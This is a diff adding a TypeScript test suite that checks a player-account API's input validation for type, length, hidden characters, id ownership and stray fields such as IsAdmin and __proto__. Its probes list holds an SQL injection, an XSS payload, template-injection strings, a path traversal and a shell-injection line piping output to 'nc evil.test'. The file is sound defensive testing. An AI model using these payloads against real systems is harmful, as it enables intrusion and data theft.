@@ -1,0 +1,318 @@
+import { type CallName, callNames } from '@gatehouse/contract/calls'
+import type { ErrorBody } from '@gatehouse/contract/errors'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { issueRegistrationTicket } from '../../src/federation/partners/registrationTicket.ts'
+import { newSecret } from '../../src/platform/crypto/secrets.ts'
+import { partnerPlayer } from '../fixtures/partnerPlayer.ts'
+import { registerForm, signedInPlayer } from '../fixtures/samplePlayers.ts'
+import {
+  type Field,
+  fieldsOf,
+  type FieldType,
+  plainValues,
+  sampleRequest,
+  type Values,
+} from '../fixtures/sampleRequest.ts'
+import { startApp, type TestApp } from '../fixtures/startApp.ts'
+import type { TestVisitor } from '../fixtures/testVisitor.ts'
+import { whatIsLeft } from '../fixtures/whatIsLeft.ts'
+
+/* What is wrong with a single field: for every field of every call, as their rows describe them. */
+
+let app: TestApp
+let player: TestVisitor
+let userId: number
+/** Whom a partner proves: there are calls that are theirs alone. */
+let partnered: TestVisitor
+let partneredId: number
+/** With which a partner's new player comes back to register. */
+let proof: string
+
+beforeAll(async () => {
+  app = await startApp({ settings: { LIMITS: 'off' } })
+  player = await signedInPlayer(app, registerForm({ Username: 'Target' }))
+  userId = (await player.readToken()).Id_User
+  partnered = await partnerPlayer(app, 'relic', 'Pat')
+  partneredId = (await partnered.readToken()).Id_User
+  const browser = newSecret()
+  partnered.jar.set('sso_flow', browser)
+  proof = await issueRegistrationTicket(
+    app.services,
+    app.deployment('relic'),
+    'registration',
+    browser,
+    {
+      partner: 'relic',
+      subject: '77',
+      email: 'new@relic.test',
+      steam: null,
+      epicGames: null,
+    },
+  )
+})
+afterAll(() => app.close())
+
+const fields = callNames.flatMap(fieldsOf)
+const ofType = (type: FieldType) => fields.filter((field) => field.type === type)
+
+/** Where the fault of a field is shown, when it is not under the field's own name. */
+const shownAt: Readonly<Record<string, string>> = {
+  Confirm: 'ConfirmPassword',
+  email: 'Email',
+  AccessKeyValue: '',
+  ReCAPTCHAToken: '',
+  Token: '',
+  Uid: '',
+  VerificationCode: '',
+  SteamId: '',
+}
+
+/** Texts of several lines, which tabs and line breaks belong to. */
+const ofLines = new Set([
+  'DeletionReason',
+  'AdditionnalMessage',
+  'Influencers',
+  'OtherSocialNetworks',
+  'OtherGameinformationources',
+  'OtherGamingWebsites',
+  'OtherStudios',
+])
+
+/** Names what is read of it and ignores all else, whatever that is. */
+const isIgnored = ({ name }: Field) => name === 'include'
+
+interface Sent {
+  readonly status: number
+  readonly places: readonly string[]
+  readonly body: string
+}
+
+const absent = Symbol('absent')
+
+function valuesOf(call: CallName, part: Field['part']): Values {
+  const values = plainValues(call, part)
+  if (part === 'query') return values
+  if (call === 'registerPartnerUser') return { ...values, Token: proof }
+  // Whatever stands in the trap is a robot's form, of which nothing is read.
+  return call === 'registerNewUser' ? { ...values, UsageNameHoneyPot: '' } : values
+}
+
+async function send({ call, part, name }: Field, value: unknown): Promise<Sent> {
+  const { [name]: _, ...others } = valuesOf(call, part)
+  const values = value === absent ? others : { ...others, [name]: value }
+  return sendTo(call, { [part]: values })
+}
+
+async function sendTo(call: CallName, given: Parameters<typeof sampleRequest>[1]): Promise<Sent> {
+  const isPartners = call === 'deletePartnerUser' || call === 'registerPartnerUser'
+  const [sender, id] = isPartners ? [partnered, partneredId] : [player, userId]
+  const began = performance.now()
+  const { statusCode: status, body } = await sender.send(
+    sampleRequest(call, { userId: id, body: valuesOf(call, 'body'), ...given }),
+  )
+  if (performance.now() - began > 3000) throw new Error(`${call} took too long.`)
+  const items = status === 400 ? (JSON.parse(body) as ErrorBody).ErrorMessages : []
+  return { status, places: items.map(({ Property }) => Property), body }
+}
+
+const told = ({ call, name }: Field, value: unknown, body: string): string =>
+  `${call} ${name} ${JSON.stringify(value).slice(0, 40)}: ${body}`
+
+/** Sends each field each value, and answers those that were not refused under the field's name. */
+async function notRefused(
+  of: readonly Field[],
+  wrongOf: (field: Field) => readonly unknown[],
+): Promise<unknown[]> {
+  const before = await whatIsLeft(app)
+  const faults: unknown[] = of.length === 0 ? ['nothing was sent'] : []
+  for (const field of of) {
+    // A query tells its faults in general.
+    const place = field.part === 'query' ? '' : (shownAt[field.name] ?? field.name)
+    for (const value of wrongOf(field)) {
+      const { status, places, body } = await send(field, value)
+      const isRefused = status === 400 && places.includes(place)
+      if (!isRefused) faults.push(told(field, value, body))
+    }
+  }
+  if ((await whatIsLeft(app)) !== before) faults.push('something is left')
+  return faults
+}
+
+const wrongTypes: Readonly<Record<FieldType, readonly unknown[]>> = {
+  string: [1, true, [], {}],
+  boolean: ['true', 'false', '', 1, 0, 'on', [], {}],
+  integer: ['1', '', true, 1.5, 1e308, [], [1], {}],
+  array: ['x', 1, true, {}, [1], [null]],
+  object: ['x', 1, true, []],
+}
+
+/** What a value of the wrong type is for a field; a query has texts alone. */
+function wrongTypesOf({ part, type, isNullable }: Field): readonly unknown[] {
+  if (part === 'query') return []
+  return isNullable ? wrongTypes[type] : [...wrongTypes[type], null]
+}
+
+describe('every field of every call', () => {
+  it('X07 is refused by itself when it is too long or null, and never breaks anything', async () => {
+    const texts = ofType('string').filter((field) => !isIgnored(field))
+    expect(await notRefused(texts, () => ['x'.repeat(10_000)])).toEqual([])
+    const nulls = fields.filter(({ part, isNullable }) => part === 'body' && !isNullable)
+    expect(await notRefused(nulls, () => [null])).toEqual([])
+    const broken: unknown[] = []
+    for (const field of fields) {
+      for (const value of [absent, '', ' ']) {
+        const { status, body } = await send(field, value)
+        const isAnswer = [200, 201, 400].includes(status)
+        const isMissed = status < 400 && value === absent && field.isRequired
+        const given = value === absent ? 'nothing' : value
+        if (!isAnswer || isMissed) broken.push(told(field, given, body))
+      }
+    }
+    expect(broken).toEqual([])
+  })
+
+  it('X08 L02 is refused by itself when it is of another type', async () => {
+    expect(await notRefused(fields, wrongTypesOf)).toEqual([])
+  })
+
+  it('X09 is refused by itself with hidden characters in it', async () => {
+    const some = ['\u0001', '\b', '\t', '\u000b', '\u001b', '\u001f', '\u007f']
+    const hidden = ['\u202e', '\ufeff', '\r\n', ...some]
+    // Neither can be written into a query: a NUL is refused before, a lone surrogate is no UTF-8.
+    const inBodies = ['\u0000', '\ud800']
+    const inLines = new Set(['\t', '\n', '\r', '\r\n'])
+    const texts = ofType('string').filter((field) => !isIgnored(field))
+    const hiddenIn = ({ part, name }: Field) =>
+      [...hidden, ...(part === 'body' ? inBodies : [])]
+        .filter((character) => !(ofLines.has(name) && inLines.has(character)))
+        .map((character) => `a${character}b`)
+    expect(await notRefused(texts, hiddenIn)).toEqual([])
+    const everyControl = Array.from({ length: 32 }, (_, at) => `a${String.fromCodePoint(at)}b`)
+    const usernames = texts.filter(
+      ({ name, call }) => name === 'Username' && call !== 'registerNewUser',
+    )
+    expect(await notRefused(usernames, () => everyControl)).toEqual([])
+  })
+
+  const notIds = [
+    '0',
+    '-1',
+    '1.5',
+    '1e3',
+    '0x10',
+    '9999999999999999999',
+    ' 1',
+    '1 ',
+    '01',
+    '+1',
+    'abc',
+    'null',
+    '[1]',
+    '6F9619FF-8B86-D011-B42D-00CF4FC964FF',
+  ]
+
+  it('X10 of a player’s id is that player’s own alone', async () => {
+    const other = await signedInPlayer(app, registerForm({ Username: 'Other' }))
+    const otherId = String((await other.readToken()).Id_User)
+    const ofUsers = callNames.filter((name) => sampleRequest(name, { userId: 7 }).url.includes('7'))
+    expect(ofUsers.length).toBeGreaterThan(9)
+    const before = await whatIsLeft(app)
+    const faults: unknown[] = []
+    for (const call of ofUsers) {
+      const ids = call === 'logInUser' ? notIds : [...notIds, otherId, '999999']
+      for (const id of ids) {
+        const request = sampleRequest(call, { userId: encodeURIComponent(id) })
+        const { statusCode, body } = await player.send(request)
+        const isRefused =
+          body === '{"ErrorMessages":[{"Property":"","ErrorMessage":"ERROR_NOT_ALLOWED"}]}'
+        if (statusCode !== 400 || !isRefused) faults.push([call, id, statusCode, body])
+      }
+    }
+    expect(faults).toEqual([])
+    expect(await whatIsLeft(app)).toBe(before)
+  })
+
+  it('X10 of another id is refused when it is none', async () => {
+    // Who the partner has proven is the proof's to say: what the form says of it is not read.
+    const ids = ofType('integer').filter(({ name }) => /^Id_(?!SSO)|Id$/.test(name))
+    expect(ids.map(({ name }) => name)).toContain('userBlockedId')
+    const before = await whatIsLeft(app)
+    const faults: unknown[] = []
+    for (const field of ids) {
+      for (const id of [...notIds, 0, -1, 1.5, 1e20, [1], {}]) {
+        const { status, places, body } = await send(field, id)
+        const isRefused = status === 400 && places.some((at) => at === '' || at === field.name)
+        if (!isRefused) faults.push(told(field, id, body))
+      }
+    }
+    expect(faults).toEqual([])
+    expect(await whatIsLeft(app)).toBe(before)
+  })
+
+  it('X11 that is a yes or no is true or false', async () => {
+    const flags = ofType('boolean')
+    expect(flags.length).toBeGreaterThan(10)
+    expect(await notRefused(flags, () => ['true', 1, 'on'])).toEqual([])
+    const decided = flags.filter(({ isNullable }) => !isNullable)
+    expect(await notRefused(decided, () => [null])).toEqual([])
+  })
+
+  it('X12 has no other field beside it: what nobody knows has no effect', async () => {
+    const strays =
+      '"IsAdmin":true,"Id":1,"__proto__":{"isAdmin":true},"constructor":{"prototype":{"isAdmin":true}}'
+    const faults: unknown[] = []
+    for (const call of callNames) {
+      // Whoever has logged out cannot ask again, and this one takes any text.
+      if (call === 'logOut' || call === 'steamCallback') continue
+      const body = JSON.stringify(valuesOf(call, 'body'))
+      const query = new URLSearchParams(
+        plainValues(call, 'query') as Record<string, string>,
+      ).toString()
+      const more = body === '{}' ? `{${strays}}` : `${body.slice(0, -1)},${strays}}`
+      const plain = await sendTo(call, { body, query })
+      const rowsBefore = plain.status === 400 ? await whatIsLeft(app) : ''
+      const stray = `${query}&IsAdmin=true&__proto__=x&constructor=x&toString=x`
+      const withStrays = await sendTo(call, { body: more, query: stray })
+      const isSame =
+        plain.status === withStrays.status &&
+        (withStrays.status !== 400 || plain.body === withStrays.body)
+      const isLeft = rowsBefore !== '' && (await whatIsLeft(app)) !== rowsBefore
+      if (!isSame || isLeft) faults.push([call, plain, withStrays, isLeft])
+    }
+    expect(faults).toEqual([])
+    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined()
+  })
+
+  const probes = [
+    "' or 1=1; drop table players; --",
+    '<img src=x onerror=alert(1)>',
+    '{{7*7}}${7*7}<%=7*7%>#{7*7}',
+    '$(sleep 5)`id`|nc evil.test',
+    '../../etc/passwd',
+  ]
+
+  it('X14 with words of SQL, HTML, templates or shells is a text like any other', async () => {
+    const faults: unknown[] = []
+    for (const field of ofType('string')) {
+      const texts = [await send(field, 'Words of 3 kinds; and more.'), await send(field, 'word')]
+      for (const probe of probes) {
+        const { status, body } = await send(field, probe)
+        const isLikeAny = texts.some((text) => text.status === status)
+        if (!isLikeAny) faults.push(told(field, probe, body))
+      }
+    }
+    expect(faults).toEqual([])
+  })
+
+  it('X14 is kept as it was typed where it is kept', async () => {
+    const [Firstname = '', Lastname = ''] = probes
+    const body = registerForm({ Username: 'Typed', Firstname, Lastname })
+    await app.visitor('two-point-studios').call('registerNewUser', { body })
+    const kept = await app.services.database.kysely
+      .selectFrom('players')
+      .select(['firstname', 'lastname'])
+      .where('username', '=', 'Typed')
+      .executeTakeFirst()
+    expect(kept).toEqual({ firstname: Firstname, lastname: Lastname })
+  })
+})
